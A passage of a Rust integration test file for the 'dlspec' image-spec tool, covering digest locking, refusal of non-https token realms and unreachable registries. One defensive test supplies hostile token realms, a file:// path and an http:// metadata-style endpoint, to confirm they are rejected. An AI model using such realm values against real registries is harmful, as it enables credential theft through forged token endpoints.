    let text = std::fs::read_to_string(&lock).unwrap();
    assert!(text.contains(&format!("# base {base}@{DIGEST}\n")), "{text}");
    assert!(std::fs::read_to_string(dir.join("uv-args.log")).unwrap().contains("x86_64-manylinux_2_17"));
    assert_eq!(dlspec(&dir, &["compile"]).code, 0);
    let dockerfile = std::fs::read_dir(dir.join("out/tf")).unwrap().next().unwrap().unwrap().path().join("Dockerfile");
    assert!(std::fs::read_to_string(dockerfile).unwrap().contains(&format!("ARG BASE_IMAGE={base}@{DIGEST}\n")));
    // The lock keeps the digest when it is written again without --digests.
    assert_eq!(dlspec(&dir, &["lock", "--uv", uv.as_str(), "--upgrade"]).code, 0);
    assert!(std::fs::read_to_string(&lock).unwrap().contains(DIGEST));
}

#[test]
fn a_token_realm_that_is_not_https_is_refused() {
    const DIGEST: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let temp = tempfile::tempdir().unwrap();
    let token = Utf8PathBuf::try_from(temp.path().join("token.json")).unwrap();
    std::fs::write(&token, "{\"token\":\"t0ken\"}").unwrap();
    for realm in [format!("file://{token}"), "http://metadata.internal.example/token".to_owned()] {
        let port = fake_registry_with_realm(DIGEST, Some(realm.clone()));
        let base = format!("127.0.0.1:{port}/team/base:1.0");
        let (_temp, dir, uv) = catalog(&format!(
            "image \"tf\" {{\n    tensorflow \"2.15.0\"\n    python \"3.10\"\n    base \"{base}\"\n    pip \"pandas\"\n}}\n"
        ));
        let run = dlspec(&dir, &["lock", "--uv", uv.as_str(), "--digests"]);
        assert_eq!(run.code, 2, "{realm}: {}", run.stderr);
        assert!(run.stderr.contains(&format!("token realm `{realm}`, which is not an https:// URL")), "{}", run.stderr);
        assert!(!dir.join("specs/.dlspec-lock").exists(), "{realm}: a lock was written");
    }
}

#[test]
fn a_registry_that_does_not_answer_is_named() {
    let (_temp, dir, uv) = catalog(&SPEC.replace("cpu os=\"ubuntu22.04\"", "base \"127.0.0.1:9/team/base:1.0\""));
    let run = dlspec(&dir, &["lock", "--uv", uv.as_str(), "--digests"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("registry 127.0.0.1:9 not reachable"), "{}", run.stderr);
}

/// The locked pip layers an image's directory has (`pip/*.lock.txt`; `pip/constraints.txt` every
/// image has).
fn locked_layers(image_dir: &camino::Utf8Path) -> Vec<String> {
    let Ok(entries) = std::fs::read_dir(image_dir.join("pip")) else { return Vec::new() };
    entries.filter_map(|e| e.ok()?.file_name().into_string().ok()).filter(|name| name != "constraints.txt").collect()
}

#[test]
fn every_image_of_the_catalog_that_comes_from_pypi_alone_is_locked() {
    let run = dlspec(&common::root(), &["lock", "--check", "--format", "json"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).expect("JSON");
    let from_pypi: Vec<&str> = report["unlocked_images"]
        .as_array()
        .expect("a list")
        .iter()
        .filter(|image| image["from_pypi"] == true)
        .filter_map(|image| image["reference"].as_str())
        .collect();
    assert!(from_pypi.is_empty(), "run `dlspec lock` for these images of specs/: {from_pypi:#?}");
    for image in report["unlocked_images"].as_array().expect("a list") {
        assert!(image["reason"].as_str().is_some_and(|r| r.contains("beside PyPI")), "{image}");
    }
}
